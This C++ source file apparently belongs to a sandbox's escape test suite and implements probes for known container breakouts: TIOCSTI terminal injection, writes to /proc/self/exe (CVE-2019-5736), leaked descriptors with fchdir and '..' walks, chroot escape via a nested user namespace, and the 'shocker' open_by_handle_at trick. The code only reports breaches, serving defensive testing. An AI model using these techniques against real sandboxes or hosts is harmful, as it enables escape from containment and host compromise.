// Terminal and filesystem escapes: TIOCSTI, /proc magic links, inherited fds, `..`, chroot and
// open_by_handle_at.
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <string>

#include "tests/escape/attack.h"

namespace gaol::attack {
namespace {

// Pushes one byte into the input of each terminal the job can name.
int Inject(std::string_view attack_class, unsigned long request, std::string_view request_name) {
  Outcome out(attack_class);
  out.Note(isatty(0) ? "fd 0 is a terminal" : "fd 0 is not a terminal");
  auto inject = [&](int fd, const std::string& target) {
    char c = '#';
    SysResult r = Sys(syscall(SYS_ioctl, fd, request, &c));
    out.Tried("ioctl(" + target + ", " + std::string(request_name) + ")", r);
  };
  for (int fd = 0; fd <= 2; ++fd) inject(fd, "fd " + std::to_string(fd));
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (tty < 0) {
    int err = errno;
    out.Note("open /dev/tty: " + ErrnoName(err));
  } else {
    inject(tty, "/dev/tty");
    close(tty);
  }
  return out.Emit();
}

void TryWriteOpen(Outcome& out, const std::string& path) {
  SysResult fd = Sys(open(path.c_str(), O_WRONLY | O_CLOEXEC));
  out.Tried("open " + path + " for writing", fd);
  if (fd.value >= 0) close(static_cast<int>(fd.value));
}

// A directory the job reached through a magic link or a descriptor must lead back to its root.
void CheckDirectory(Outcome& out, int fd, const std::string& what) {
  std::string top;
  if (LeadsOutsideRoot(fd, &top)) {
    out.Breach(what + " leads to another root " + top);
  } else {
    out.Note(what + " stays inside");
  }
}

void CheckLink(Outcome& out, const std::string& path) {
  int fd = open(path.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) {
    int err = errno;
    out.Note(path + ": " + ErrnoName(err));
    return;
  }
  CheckDirectory(out, fd, path);
  close(fd);
}

// Every descriptor of another process: a directory must not lead out, a file must not reopen for
// writing.
void CheckFdTable(Outcome& out, const std::string& dir, bool skip_stdio) {
  DIR* d = opendir(dir.c_str());
  if (d == nullptr) {
    int err = errno;
    out.Note(dir + ": " + ErrnoName(err));
    return;
  }
  int own = dirfd(d);
  for (dirent* e = readdir(d); e != nullptr; e = readdir(d)) {
    if (e->d_name[0] == '.') continue;
    int num = atoi(e->d_name);
    if ((skip_stdio && num <= 2) || (dir == "/proc/self/fd" && num == own)) continue;
    std::string path = dir + "/" + e->d_name;
    struct stat st {};
    if (stat(path.c_str(), &st) != 0) {
      int err = errno;
      out.Note(path + ": " + ErrnoName(err));
    } else if (S_ISDIR(st.st_mode)) {
      CheckLink(out, path);
    } else if (S_ISREG(st.st_mode)) {
      TryWriteOpen(out, path);
    }
  }
  closedir(d);
}

// The literal attack: fchdir to the descriptor, then walk `..` as far as it goes.
void FchdirAndWalk(Outcome& out, int fd, const std::string& what) {
  struct stat root {
  }, here{};
  if (stat("/", &root) != 0 || fchdir(fd) != 0) {
    int err = errno;
    out.Note(what + ": fchdir " + ErrnoName(err));
    return;
  }
  for (int i = 0; i < 64 && chdir("..") == 0; ++i) {
  }
  stat(".", &here);
  if (here.st_dev != root.st_dev || here.st_ino != root.st_ino) {
    out.Breach(what + ": fchdir and .. reach another root " + Identity(here));
  } else {
    out.Note(what + ": fchdir and .. stop at the root");
  }
  SysResult back = Sys(chdir("/"));
  if (back.value != 0) out.Note("chdir /: " + OkOrErrno(back));
}

bool FileHolds(int fd, std::string_view secret) {
  char buf[65536];
  ssize_t n = pread(fd, buf, sizeof(buf), 0);
  return n > 0 && std::string_view(buf, static_cast<size_t>(n)).find(secret) != std::string::npos;
}

bool SameFile(const struct stat& a, const struct stat& b) {
  return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

// Walks `..` from the current directory, chroots there, and reports where it ended.
void WalkOutOfChroot(Outcome& out, const struct stat& sandbox_root) {
  for (int i = 0; i < 64 && chdir("..") == 0; ++i) {
  }
  out.Note("chroot(.) after the walk: " + OkOrErrno(Sys(chroot("."))));
  struct stat now {};
  stat("/", &now);
  if (!SameFile(now, sandbox_root)) {
    out.Breach("the walk left the sandbox root for " + Identity(now));
  } else {
    out.Note("(not a breach: the walk stopped at the sandbox root)");
  }
}

}  // namespace

int RunTiocsti(Args) { return Inject("CVE-2017-5226 TIOCSTI", 0x5412, "TIOCSTI"); }

int RunTiocsti64(Args) {
  // The kernel reads the request as 32 bits: a filter comparing all 64 lets this through.
  return Inject("CVE-2019-10063 TIOCSTI, 64-bit request", 0xffffffff00005412UL,
                "0xffffffff00005412");
}

int RunProcfs(Args args) {
  std::string host = "/proc/" + std::to_string(ParseNumber(args[0]));
  Outcome out("CVE-2019-5736 CVE-2024-21626 /proc/self/exe and /proc/<pid>/fd");
  TryWriteOpen(out, "/proc/self/exe");
  TryWriteOpen(out, "/proc/1/exe");  // PID 1 is a fork of gaol: this is the host's gaol binary
  TryWriteOpen(out, host + "/exe");
  for (const std::string& link :
       {std::string("/proc/1/cwd"), std::string("/proc/1/root"), host + "/cwd", host + "/root"}) {
    CheckLink(out, link);
  }
  CheckFdTable(out, "/proc/1/fd", false);
  CheckFdTable(out, host + "/fd", false);
  CheckFdTable(out, "/proc/self/fd", true);
  return out.Emit();
}

int RunFds(Args args) {
  std::string_view secret = args[0];
  Outcome out("inherited fds");
  int open_fds = 0;
  for (int fd = 3; fd < 1024; ++fd) {
    struct stat st {};
    if (fcntl(fd, F_GETFD) < 0 || fstat(fd, &st) != 0) continue;
    ++open_fds;
    std::string what = "fd " + std::to_string(fd);
    out.Breach(what + " reached the job");
    if (S_ISDIR(st.st_mode)) FchdirAndWalk(out, fd, what);
    if (S_ISREG(st.st_mode) && FileHolds(fd, secret)) out.Breach(what + " reads the host's secret");
  }
  if (open_fds == 0) out.Note("no descriptor beyond 0, 1, 2");
  return out.Emit();
}

// The job's own stdio: a host directory there (`--stdin DIR`) leads out of the root through
// /proc/self/fd/0/.. or fchdir(0); a socket or a device other than /dev/null and a tty has no
// business there either.
int RunStdio(Args) {
  Outcome out("host descriptors as stdio");
  for (int fd = 0; fd < 3; ++fd) {
    struct stat st {};
    std::string what = "fd " + std::to_string(fd);
    if (fstat(fd, &st) != 0) {
      out.Note(what + " closed");
      continue;
    }
    if (S_ISDIR(st.st_mode)) {
      out.Breach(what + " is a directory");
      std::string top;
      if (LeadsOutsideRoot(fd, &top)) out.Breach(what + ": .. reaches " + top);
      FchdirAndWalk(out, fd, what);
      std::string link = "/proc/self/fd/" + std::to_string(fd) + "/../../..";
      int up = open(link.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
      if (up >= 0 && LeadsOutsideRoot(up, &top)) out.Breach(link + " reaches " + top);
      if (up >= 0) close(up);
    } else if (S_ISSOCK(st.st_mode)) {
      out.Breach(what + " is a socket");
    } else if (S_ISBLK(st.st_mode)) {
      out.Breach(what + " is a block device");
    } else {
      out.Note(what + " mode 0" + std::to_string(st.st_mode & S_IFMT));
    }
  }
  return out.Emit();
}

int RunDotdot(Args) {
  Outcome out("pivot_root escape: .. walks");
  int cwd = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (cwd >= 0) {
    FchdirAndWalk(out, cwd, "cwd");
    close(cwd);
  }
  for (const char* path : {"/../../../..", "/proc/self/root/../..", "/proc/self/cwd/../..", "/tmp",
                           "/usr", "/proc", "/dev/pts"}) {
    CheckLink(out, path);
  }
  return out.Emit();
}

int RunChroot(Args) {
  Outcome out("pivot_root escape: chroot and ..");
  struct stat sandbox_root {};
  stat("/", &sandbox_root);
  const char* inner = "/tmp/gaol-attack-chroot";
  mkdir(inner, 0700);
  SysResult r = Sys(chroot(inner));
  out.Note("chroot " + std::string(inner) + ": " + OkOrErrno(r));
  if (r.value != 0) {
    // A nested user namespace would hold CAP_SYS_CHROOT: the classic escape needs nothing else.
    r = Sys(unshare(CLONE_NEWUSER));
    out.Note("unshare(CLONE_NEWUSER): " + OkOrErrno(r));
    if (r.value == 0) {
      r = Sys(chroot(inner));
      out.Note("chroot in the new namespace: " + OkOrErrno(r));
    }
  }
  if (r.value == 0) WalkOutOfChroot(out, sandbox_root);
  return out.Emit();
}

int RunHandle(Args) {
  Outcome out("pivot_root escape: open_by_handle_at");
  // Any directory on the host filesystem serves as the mount fd; the handle names that
  // filesystem's root (inode 2, generation 0, as on ext2/3/4): the "shocker" exploit.
  int mount_fd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mount_fd < 0) mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  alignas(file_handle) unsigned char buf[sizeof(file_handle) + 8] = {};
  auto* handle = reinterpret_cast<file_handle*>(buf);
  handle->handle_bytes = 8;
  handle->handle_type = 1;  // FILEID_INO32_GEN
  const uint32_t ino_gen[2] = {2, 0};
  memcpy(handle->f_handle, ino_gen, sizeof(ino_gen));
  SysResult fd = Sys(syscall(SYS_open_by_handle_at, mount_fd, handle, O_RDONLY | O_DIRECTORY));
  out.Tried("open_by_handle_at(inode 2 of the filesystem under /usr)", fd);
  if (fd.value >= 0) {
    CheckDirectory(out, static_cast<int>(fd.value), "the opened directory");
    close(static_cast<int>(fd.value));
  }
  close(mount_fd);
  return out.Emit();
}

}  // namespace gaol::attack
